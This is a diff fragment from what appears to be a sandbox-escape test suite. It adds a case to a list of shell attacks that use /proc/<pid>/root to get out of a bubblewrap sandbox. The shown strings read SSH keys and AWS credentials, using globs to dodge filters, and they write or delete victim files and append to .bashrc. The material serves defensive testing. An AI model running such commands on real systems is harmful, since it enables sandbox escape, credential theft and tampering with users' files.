@@ -146,6 +146,8 @@ SHELL_ATTACKS: list[Attack] = [
     one("sh_proc_bwrap_root_escape", 'B=$(awk "/PPid/{print \\$2}" /proc/$PPID/status); '
         'cat /proc/$B/root$HOME/.ssh/id_rsa; echo PWNED > /proc/$B/root$HOME/victim/a.txt; '
         'echo pwn >> /proc/$B/root$HOME/.bashrc'),
+    one("sh_proc_bwrap_root_glob", 'B=$(awk "/PPid/{print \\$2}" /proc/$PPID/status); R=/proc/$B/root$HOME; '
+        'head -c 300 $R/.s?h/id_* $R/.a?s/cre*; echo PWNED > $R/victim/a.txt; rm -f $R/victim/b.txt'),
     one("sh_proc_any_root_escape", 'for p in /proc/[0-9]*; do r=$p/root$HOME; [ -r $r/.aws/credentials ] && '
         '{ cat $r/.aws/credentials; touch $r/victim/ESCAPED_$$; break; }; done 2>/dev/null; true'),
     one("sh_proc_bwrap_root_config_off", 'B=$(awk "/PPid/{print \\$2}" /proc/$PPID/status); '
